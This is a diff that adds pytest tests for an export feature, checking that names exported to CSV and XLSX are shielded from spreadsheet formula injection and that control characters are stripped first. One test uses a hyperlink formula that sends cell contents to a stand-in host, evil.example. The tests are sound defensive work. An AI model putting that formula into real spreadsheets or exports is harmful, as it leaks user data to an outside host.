@@ -180,3 +180,34 @@ def test_exports_of_a_search_without_a_letter_or_digit_are_refused(ranked, logge
     assert response.status_code == 302
     assert "The filters are not valid; nothing was exported." in logged_in.get(response["Location"]).content.decode()
     assert not ListExport.objects.exists()
+
+
+# Every start OWASP lists as making a spreadsheet read a cell as a formula.
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\n"]
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
+def test_cell_safe_neutralises_every_formula_start(start) -> None:
+    assert exports.cell_safe(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"
+
+
+@pytest.mark.parametrize("format", ["csv", "xlsx"])
+def test_a_name_that_starts_with_a_line_feed_is_neutralised(logged_in, format) -> None:
+    publish_run(2, names={1: '\n=HYPERLINK("http://evil.example/?"&A1,"Click")'})
+    response = export(logged_in, format)
+    names = [row[5] for row in (csv_rows(response) if format == "csv" else xlsx_rows(response))[1:]]
+    assert names[0] == '\'\n=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+# Control characters PostgreSQL keeps in a name (an import, the admin) but XML cannot carry.
+CONTROLS = {1: "Vertical\x0btab BV", 2: "\x0b=1+1", 3: "\x01\x02@SUM(1)", 4: "Form\x0cfeed\x1f NV"}
+
+
+@pytest.mark.parametrize("format", ["csv", "xlsx"])
+def test_control_characters_in_names_are_dropped_before_the_formula_check(logged_in, format) -> None:
+    publish_run(4, names=CONTROLS)
+    response = export(logged_in, format)
+    assert response.status_code == 200
+    names = [row[5] for row in (csv_rows(response) if format == "csv" else xlsx_rows(response))[1:]]
+    # Dropped first, so that "\x0b=1+1" cannot become "=1+1" once a spreadsheet drops it.
+    assert names == ["Verticaltab BV", "'=1+1", "'@SUM(1)", "Formfeed NV"]
